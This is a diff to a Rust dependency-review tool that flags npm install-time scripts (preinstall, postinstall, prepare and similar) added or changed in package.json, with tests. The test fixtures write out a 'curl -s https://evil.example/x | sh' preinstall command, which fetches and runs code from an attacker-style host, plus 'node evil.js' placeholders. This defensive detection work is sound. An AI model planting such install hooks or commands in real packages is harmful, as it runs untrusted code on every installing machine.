@@ -6,7 +6,9 @@
 //!
 //! A lock file's entry is what the package manager fetches, so an entry that keeps its name but
 //! resolves to another package's tarball, a git, file or other URL, or a new registry, is a new
-//! dependency too; so is a locked crate whose checksum changes while its version stays.
+//! dependency too; so is a locked crate whose checksum changes while its version stays. A
+//! `package.json` script that npm runs on install (`postinstall`, `prepare`, ...), added or
+//! changed, runs code on every machine that installs the package, as a new dependency would.
 //!
 //! Parsed with the formats' own grammar (TOML, JSON) where the crate has one, and by lines for
 //! the line-based formats (`requirements.txt`, `go.mod`, `go.sum`, `yarn.lock`). Formats without
@@ -61,6 +63,8 @@ pub struct Declared {
     /// Locked packages and the checksum that pins their contents: `name version (source)` ->
     /// checksum (`None`: the entry has none).
     pub checksums: BTreeMap<String, Option<String>>,
+    /// `package.json` scripts the package manager runs on install: name -> command.
+    pub install_scripts: BTreeMap<String, String>,
 }
 
 impl Declared {
@@ -84,7 +88,65 @@ impl Declared {
                 show(sum)
             ));
         }
+        for (name, command) in &self.install_scripts {
+            let what = match before.install_scripts.get(name) {
+                None => format!("adds the install script {name}: {}", quote(command)),
+                Some(was) if was != command => format!(
+                    "changes the install script {name}: {} -> {}",
+                    quote(was),
+                    quote(command)
+                ),
+                Some(_) => continue,
+            };
+            out.push(format!(
+                "{path} {what} (npm, yarn and pnpm run it when the package is installed)"
+            ));
+        }
         out
+    }
+}
+
+/// How many characters of a command a message quotes.
+const QUOTE_CHARS: usize = 120;
+
+fn quote(text: &str) -> String {
+    let mut out: String = text.chars().take(QUOTE_CHARS).collect();
+    if text.chars().count() > QUOTE_CHARS {
+        out.push_str("...");
+    }
+    format!("`{out}`")
+}
+
+/// npm's install-time lifecycle scripts; each also runs with its `pre` and `post` hooks.
+const INSTALL_SCRIPTS: [&str; 8] = [
+    "preinstall",
+    "install",
+    "postinstall",
+    "prepublish",
+    "preprepare",
+    "prepare",
+    "postprepare",
+    // npm 8 and later run it whenever node_modules changes.
+    "dependencies",
+];
+
+fn is_install_script(name: &str) -> bool {
+    let base = |n: &str| INSTALL_SCRIPTS.contains(&n);
+    base(name)
+        || name.strip_prefix("pre").is_some_and(base)
+        || name.strip_prefix("post").is_some_and(base)
+}
+
+/// The scripts of `package.json` that run at install time, with their commands.
+fn npm_install_scripts(doc: &Json, out: &mut BTreeMap<String, String>) {
+    for (name, command) in object(doc.get("scripts")) {
+        if is_install_script(name) {
+            let command = match command.as_str() {
+                Some(c) => c.to_owned(),
+                None => command.to_string(),
+            };
+            out.insert(name.clone(), command);
+        }
     }
 }
 
@@ -113,7 +175,12 @@ pub fn read(path: &str, text: &str) -> Result<Declared, String> {
                 out.insert(format!("source: {}", str_of(s.get("url"))));
             }
         }
-        "package.json" | "composer.json" => package_json(&json()?, out),
+        "package.json" => {
+            let doc = json()?;
+            package_json(&doc, out);
+            npm_install_scripts(&doc, &mut declared.install_scripts);
+        }
+        "composer.json" => package_json(&json()?, out),
         "package-lock.json" => {
             let doc = json()?;
             for (key, p) in object(doc.get("packages")) {
@@ -1032,6 +1099,60 @@ mod tests {
                 "Cargo.toml",
                 "[dev-dependencies]\nproptest = \"1\"\n",
                 "[dev_dependencies]\nproptest = \"1\"\n"
+            ),
+            Vec::<String>::new()
+        );
+    }
+
+    #[test]
+    fn an_install_script_added_or_changed_in_package_json_is_named() {
+        let before = "{\"scripts\": {\"test\": \"jest\", \"prepare\": \"husky install\"}}";
+        assert_eq!(
+            gained(
+                "web/package.json",
+                before,
+                "{\"scripts\": {\"test\": \"jest --ci\", \"prepare\": \"husky install\", \"build\": \"tsc\"}}"
+            ),
+            Vec::<String>::new(),
+            "scripts that do not run on install"
+        );
+        for (name, command) in [
+            ("preinstall", "curl -s https://evil.example/x | sh"),
+            ("install", "node-gyp rebuild"),
+            ("postinstall", "node scripts/evil.js"),
+            ("prepublish", "node evil.js"),
+            ("preprepare", "node evil.js"),
+            ("postprepare", "node evil.js"),
+            ("dependencies", "node evil.js"),
+            ("prepostinstall", "node evil.js"),
+            ("postpostinstall", "node evil.js"),
+        ] {
+            let after = format!(
+                "{{\"scripts\": {{\"test\": \"jest\", \"prepare\": \"husky install\", \"{name}\": \"{command}\"}}}}"
+            );
+            assert_eq!(
+                gained("web/package.json", before, &after),
+                [format!(
+                    "web/package.json adds the install script {name}: `{command}` (npm, yarn and \
+                     pnpm run it when the package is installed)"
+                )]
+            );
+        }
+        assert_eq!(
+            gained(
+                "package.json",
+                before,
+                "{\"scripts\": {\"test\": \"jest\", \"prepare\": \"husky install && node x.js\"}}"
+            ),
+            ["package.json changes the install script prepare: `husky install` -> `husky install \
+              && node x.js` (npm, yarn and pnpm run it when the package is installed)"]
+        );
+        // A composer.json's scripts are Composer's, with other names.
+        assert_eq!(
+            gained(
+                "composer.json",
+                "{}",
+                "{\"scripts\": {\"postinstall\": \"x\"}}"
             ),
             Vec::<String>::new()
         );
